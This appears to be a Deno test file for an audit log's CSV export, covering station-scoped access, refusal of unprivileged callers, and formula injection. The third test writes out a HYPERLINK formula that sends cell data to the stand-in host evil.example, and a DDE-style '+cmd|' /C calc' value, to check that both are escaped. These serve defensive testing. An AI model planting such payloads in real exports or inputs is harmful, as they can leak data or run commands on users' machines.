// Attacks on the audit log's CSV export (issue 27): a station admin reaching another station's
// entries through the export, a plain user calling it, and a formula smuggled into a cell.

import assert from "node:assert/strict";
import { parseCsv } from "../rules/csv.ts";
import { stationAdmin, superAdmin, testApi } from "../test_support.ts";

Deno.test("attack: a station admin's export holds its own station's entries only, whatever the filter", async () => {
  const api = await testApi();
  try {
    // the super admin works at CAI, as the first super admin is created (issue 48): a station the
    // station admin shares
    const root = await superAdmin(api);
    const admin = await stationAdmin(api, "A1"); // CAI, does not see all stations
    await api.account("DXBU1", "user", { station: "DXB" });
    await api.account("CAIU1", "user", { station: "CAI" });
    // entries about a DXB user and a CAI user, written by the super admin
    for (const code of ["DXBU1", "CAIU1"]) {
      const r = await api.call("POST", `/api/users/${code}/extend-password`, { days: 30 }, root);
      assert.equal(r.status, 200, r.text);
    }
    const rows = async (query: string, token: string) => {
      const res = await api.call("GET", `/api/audit/export?${query}`, undefined, token);
      assert.equal(res.status, 200, res.text);
      assert.match(res.headers.get("content-type") ?? "", /^text\/csv/);
      const table = parseCsv(res.text);
      assert.ok(Array.isArray(table));
      return (table as string[][]).slice(1);
    };
    const targets = (table: string[][]) => table.map((r) => r[4]);
    // the super admin sees both
    assert.ok(targets(await rows("action=password.extend", root)).includes("DXBU1"));
    // the station admin: never the DXB user's entry, asked for plainly or by name
    const mine = await rows("action=password.extend", admin);
    assert.deepEqual(targets(mine), ["CAIU1"]);
    assert.deepEqual(await rows("target=DXBU1", admin), []);
    assert.ok(
      !(await api.call("GET", "/api/audit/export", undefined, admin)).text.includes("DXBU1"),
    );
  } finally {
    api.close();
  }
});

Deno.test("attack: a plain user and an anonymous caller cannot read the export", async () => {
  const api = await testApi();
  try {
    const user = await api.account("U1", "user", { accessibleApps: ["ffm-to-uws"] });
    const asUser = await api.call("GET", "/api/audit/export", undefined, user);
    assert.equal(asUser.status, 403);
    assert.ok(!asUser.text.includes("ROOT"), "no entry leaks in the refusal");
    assert.equal((await api.call("GET", "/api/audit/export")).status, 401);
  } finally {
    api.close();
  }
});

Deno.test("attack: a formula in an anonymous request's text or code is written as text in the export", async () => {
  const api = await testApi();
  try {
    const root = await api.account("S1", "super_admin");
    await api.account("EVIL1", "user", { isActive: false });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const sent = await api.call("POST", "/api/users/activation-request", {
      employeeCode: "EVIL1",
      reason: formula,
    });
    assert.equal(sent.status, 200, sent.text);
    await api.call("POST", "/api/auth/login", {
      employeeCode: "+cmd|' /C calc'!A0",
      password: "x",
    });
    const res = await api.call("GET", "/api/audit/export", undefined, root);
    const lines = res.text.split("\r\n");
    const request = lines.find((l) => l.includes("EVIL1") && l.includes("request.activation"));
    assert.ok(request, res.text);
    // the cell starts with a quote mark: a spreadsheet shows it and runs nothing
    assert.ok(request.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), request);
    assert.ok(!/,=HYPERLINK/.test(request));
    const login = lines.find((l) => l.includes("login.failed") && l.includes("CMD"));
    assert.ok(login, res.text);
    assert.ok(login.includes(",'+CMD|"), login);
  } finally {
    api.close();
  }
});
